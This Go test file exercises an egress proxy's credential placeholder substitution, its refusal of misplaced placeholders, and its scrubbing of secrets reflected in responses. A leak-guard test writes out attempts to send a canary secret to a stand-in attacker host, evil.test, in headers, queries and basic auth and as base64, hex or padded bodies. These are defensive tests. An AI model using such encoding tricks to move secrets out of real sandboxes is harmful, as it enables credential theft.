package proxy_test

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"strings"
	"testing"

	"github.com/egressd/egressd/internal/audit"
	"github.com/egressd/egressd/internal/testbed"
)

const placeholderPolicy = `
apiVersion: egressd/v1
sandboxes:
  - id: one
    team: acme
    identify: {proxyTokens: ["TOKENONE"]}
    network:
      egress:
        trafficRules:
          - {name: good, action: allow, domains: [good.test, evil.test]}
        credentialRules:
          - {name: keyed, credentialRef: ph, protocol: https, domains: [good.test], scrub: true}
      credentialBindings:
        - ref: ph
          sourceRef: gh-source
          projection:
            type: placeholder_substitution
            placeholderSubstitution:
              replacements:
                - {placeholder: EGD-PLACEHOLDER-1, valueTemplate: "{{ .token }}", locations: [header, query, path, body]}
  - id: two
    team: other
    identify: {proxyTokens: ["TOKENTWO"]}
    network: {egress: {trafficRules: [{name: all, action: allow, domains: [good.test, evil.test]}]}}
`

// seen is what the origin got last.
func (g *rig) seen1(t testing.TB) testbed.Request {
	t.Helper()
	all := g.bed.Good.Requests()
	if len(all) == 0 {
		t.Fatal("the origin got nothing")
	}
	return all[len(all)-1]
}

func TestPlaceholders(t *testing.T) {
	g := attacked(t, options{})
	g.use(placeholderPolicy)
	const ph = "EGD-PLACEHOLDER-1"
	bothVersions(t, g.stack, func(t *testing.T, c *http.Client) {
		for name, tc := range map[string]struct {
			path, body, ctype string
			header            http.Header
			want              string // in what the origin got
		}{
			"bearer":           {path: "/x", header: http.Header{"Authorization": {"Bearer " + ph}}, want: "Bearer " + canary},
			"own header":       {path: "/x", header: http.Header{"X-My-Key": {"k=" + ph + ";"}}, want: "k=" + canary + ";"},
			"basic":            {path: "/x", header: http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+ph))}}, want: base64.StdEncoding.EncodeToString([]byte("user:" + canary))},
			"query":            {path: "/x?b=2&api_key=" + ph + "&a=1&b=1", want: "/x?b=2&api_key=" + canary + "&a=1&b=1"},
			"path":             {path: "/bot" + ph + "/send", want: "/bot" + canary + "/send"},
			"form":             {path: "/echo", body: "z=1&token=" + ph + "&a=2", ctype: "application/x-www-form-urlencoded", want: "z=1&token=" + canary + "&a=2"},
			"json":             {path: "/echo", body: `{"b": "` + ph + `", "a" : [1]}`, ctype: "application/json", want: `{"b": "` + canary + `", "a" : [1]}`},
			"text":             {path: "/echo", body: "say " + ph + ".", ctype: "text/plain", want: "say " + canary + "."},
			"binary is let be": {path: "/echo", body: "\x00\x01binary", ctype: "application/octet-stream", want: "\x00\x01binary"},
		} {
			t.Run(name, func(t *testing.T) {
				req, err := http.NewRequest(http.MethodPost, g.bed.Good.URL(tc.path), strings.NewReader(tc.body))
				if err != nil {
					t.Fatal(err)
				}
				for k, v := range tc.header {
					req.Header[k] = v
				}
				if tc.ctype != "" {
					req.Header.Set("Content-Type", tc.ctype)
				}
				resp, err := c.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				_ = resp.Body.Close()
				got := g.seen1(t)
				switch all := fmt.Sprint(got.Target, "\n", got.Header); {
				case tc.body != "" && got.BodySHA256 != sum(tc.want):
					t.Errorf("the origin got another body than %q: %+v", tc.want, got)
				case tc.body == "" && !strings.Contains(all, tc.want), strings.Contains(all, ph):
					t.Errorf("the origin got %s, want %q in it", all, tc.want)
				}
			})
		}
		t.Run("what comes back is the placeholder", func(t *testing.T) {
			a := do(t, c, "GET", g.bed.Good.URL("/echo"), func(r *http.Request) { r.Header.Set("X-My-Key", ph) })
			if a.err != nil || !strings.Contains(a.body, ph) || strings.Contains(a.body, canary) {
				t.Errorf("%+v", a)
			}
		})
		t.Run("its own login goes", func(t *testing.T) {
			a := do(t, c, "GET", g.bed.Good.URL("/x?api_key=mine&q=EGD-PLACEHOLDER-1"), func(r *http.Request) { r.Header.Set("Authorization", "Bearer mine") })
			if got := g.seen1(t); a.err != nil || got.Header.Get("Authorization") != "" || strings.Contains(got.Target, "mine") {
				t.Errorf("%+v %+v", a, got)
			}
		})
		t.Run("chunked", func(t *testing.T) {
			req, _ := http.NewRequest(http.MethodPost, g.bed.Good.URL("/echo"), io.MultiReader(strings.NewReader(`{"a":"EGD-PLACE`), strings.NewReader(`HOLDER-1"}`)))
			req.Header.Set("Content-Type", "application/json")
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			_ = resp.Body.Close()
			if got := g.seen1(t); got.BodySHA256 != sum(`{"a":"`+canary+`"}`) {
				t.Errorf("%+v", got)
			}
		})
		for name, tc := range map[string]struct {
			status         int
			ctype, coding  string
			body           string
			code, location string
		}{
			"too large": {413, "application/json", "", `"` + strings.Repeat("x", 1<<20) + `EGD-PLACEHOLDER-1"`, "body_too_large", ""},
			"encoded":   {415, "application/json", "gzip", "\x1f\x8b\x08whatever", "encoded_body", ""},
		} {
			t.Run(name, func(t *testing.T) {
				g.untouched(t, func() {
					req, _ := http.NewRequest(http.MethodPost, g.bed.Good.URL("/x"), strings.NewReader(tc.body))
					req.Header.Set("Content-Type", tc.ctype)
					if tc.coding != "" {
						req.Header.Set("Content-Encoding", tc.coding)
					}
					resp, err := c.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					_ = resp.Body.Close()
					if resp.StatusCode != tc.status || resp.Header.Get("X-Egressd-Error") != tc.code {
						t.Errorf("%d %v", resp.StatusCode, resp.Header)
					}
				})
			})
		}
	})
}

func sum(s string) string { return fmt.Sprintf("%x", sha256.Sum256([]byte(s))) }

// refusedWith asks and wants a refusal of that code, and nothing at the origin.
func (g *rig) refusedWith(t *testing.T, c *http.Client, code, target, body string, edit func(*http.Request)) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, target, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if edit != nil {
		edit(req)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Egressd-Error") != code {
		t.Errorf("%d %v, want %s", resp.StatusCode, resp.Header, code)
	}
	g.records.wait(t, func(a audit.Record) bool { return a.Code == code })
}

const lookAtEvil = "protocolRules:\n          - {name: look, protocol: http, domains: [evil.test], http: {methods: {denied: [PURGE]}}}\n        credentialRules:"

func TestAMisplacedPlaceholderIsRefused(t *testing.T) {
	g := attacked(t, options{})
	g.use(strings.Replace(placeholderPolicy, "credentialRules:", lookAtEvil, 1))
	const ph = "EGD-PLACEHOLDER-1"
	at := g.bed.Evil.URL("/echo")
	bothVersions(t, g.stack, func(t *testing.T, c *http.Client) {
		g.refusedWith(t, c, "placeholder_misplaced", at, "", func(r *http.Request) { r.Header.Set("X-Key", ph) })
		g.refusedWith(t, c, "placeholder_misplaced", at+"?k="+ph, "", nil)
		g.refusedWith(t, c, "placeholder_misplaced", at, strings.Repeat("a", 100)+ph, nil)
		g.refusedWith(t, c, "placeholder_misplaced", at, "", func(r *http.Request) { r.SetBasicAuth("u", ph) })
	})
	g.clean(t)
}

// A value that egressd knows does not leave for anywhere that it was not put by a rule.
func TestLeakGuard(t *testing.T) {
	g := attacked(t, options{})
	g.use(strings.Replace(basePolicy, "credentialRules:", lookAtEvil, 1))
	if a := get(t, g.one(), g.bed.Good.URL("/bearer")); a.status != http.StatusOK { // the value is in memory from here on
		t.Fatalf("%+v", a)
	}
	bothVersions(t, g.stack, func(t *testing.T, c *http.Client) {
		at := g.bed.Evil.URL("/echo")
		js, _ := json.Marshal(map[string]string{"v": canary})
		g.refusedWith(t, c, "secret_in_request", at, "", func(r *http.Request) { r.Header.Set("X-Note", "a"+canary+"b") })
		g.refusedWith(t, c, "secret_in_request", at+"?v="+canary, "", nil)
		g.refusedWith(t, c, "secret_in_request", at, "", func(r *http.Request) { r.SetBasicAuth("me", canary) })
		for _, body := range []string{canary, string(js), base64.StdEncoding.EncodeToString([]byte("xy" + canary)), fmt.Sprintf("%x", canary), strings.Repeat("pad ", 40000) + canary} {
			g.refusedWith(t, c, "secret_in_request", at, body, nil)
		}
		if a := do(t, c, http.MethodPost, at, nil); a.err != nil || a.status >= 400 && a.status != 404 && a.status != 405 {
			t.Errorf("an honest request: %+v", a)
		}
	})
	g.clean(t)
}

func TestAttack_A25_reflection_is_scrubbed(t *testing.T) {
	g := attacked(t, options{})
	g.use(strings.Replace(basePolicy, "domains: [good.test]}\n      credentialBindings", "domains: [good.test], scrub: true}\n      credentialBindings", 1))
	bothVersions(t, g.stack, func(t *testing.T, c *http.Client) {
		for _, path := range []string{"/echo", "/echo-gz", "/echo-br", "/echo-slow", "/echo-range", "/echo-json", "/echo-enc/base64", "/echo-enc/hex", "/echo-enc/url"} {
			t.Run("A25 "+path, func(t *testing.T) {
				a := do(t, c, "GET", g.bed.Good.URL(path), func(r *http.Request) { r.Header.Set("Range", "bytes=0-9") })
				if a.err != nil || a.status >= 500 {
					t.Fatalf("%+v", a)
				}
				g.note([]byte(a.body + fmt.Sprint(a.header)))
			})
		}
	})
	g.records.wait(t, func(a audit.Record) bool { return a.Scrubbed > 0 })
	g.clean(t)
}

// Hints and trailers come with the answer and are searched like it.
func TestAttack_A25_C07_hints_and_trailers_are_scrubbed(t *testing.T) {
	g := attacked(t, options{})
	reflect := func(w http.ResponseWriter, r *http.Request) {
		v := r.Header.Get("Authorization")
		w.Header().Set("Link", "</x?"+v+">")
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Del("Link")
		w.Header().Set("Trailer", "X-Echo")
		_, _ = io.WriteString(w, "body\n")
		w.Header().Set("X-Echo", base64.StdEncoding.EncodeToString([]byte(v)))
	}
	o := testbed.NewOrigin(t, g.bed.CA, testbed.OriginOptions{IP: "127.0.0.2", Names: []string{"good.test"}, Mount: map[string]http.Handler{"/reflect": http.HandlerFunc(reflect)}})
	g.use(strings.Replace(basePolicy, "domains: [good.test]}\n      credentialBindings", "domains: [good.test], scrub: true}\n      credentialBindings", 1))
	for _, h2 := range []bool{false, true} {
		c := g.client("one", tokenOne, h2)
		req, _ := http.NewRequest(http.MethodGet, o.URL("/reflect"), nil)
		var hints []byte
		req = req.WithContext(httptrace.WithClientTrace(req.Context(), &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
			hints = fmt.Append(hints, h)
			return nil
		}}))
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		if err != nil || string(body) != "body\n" || !strings.Contains(resp.Trailer.Get("X-Echo"), "[redacted]") {
			t.Errorf("%v %q %v", err, body, resp.Trailer)
		}
		if !h2 && !strings.Contains(string(hints), "[redacted]") { // h2 clients are shown none
			t.Errorf("hints: %s", hints)
		}
		g.note(append(fmt.Append(nil, resp.Header, resp.Trailer), hints...))
	}
	g.clean(t)
}
